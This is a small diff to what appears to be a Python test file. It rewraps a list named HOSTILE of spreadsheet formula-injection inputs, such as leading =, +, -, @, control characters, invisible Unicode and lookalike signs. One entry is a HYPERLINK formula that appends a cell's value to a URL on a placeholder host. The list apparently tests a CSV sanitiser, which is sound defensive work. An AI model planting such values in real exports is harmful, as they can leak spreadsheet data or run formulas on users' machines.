@@ -32,7 +32,8 @@ AT = datetime(2026, 6, 5, 23, 59, tzinfo=ZONE)
 
 HOSTILE = [
     "=1+1", '=HYPERLINK("http://e/?"&A1)', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-    "\n=1+1",    " =1+1", "\N{NO-BREAK SPACE}=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060\u00ad\u200e =1+1",
+    "\n=1+1", " =1+1", "\N{NO-BREAK SPACE}=1+1", "\u200b=1+1", "\ufeff=1+1",
+    "\u2060\u00ad\u200e =1+1",
     "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1+1", "\N{FULLWIDTH HYPHEN-MINUS}1+1",
     "\N{FULLWIDTH COMMERCIAL AT}SUM(1)", "\N{SMALL PLUS SIGN}1", "\N{MINUS SIGN}1+1", "a\n=1+1",
     "a\r\n =1+1", "a\r=1+1", "a\u2028=1+1", "a;=1+1", "a\t=1+1", 'a;"=1+1', '"=1+1"', '";=1+1;"',
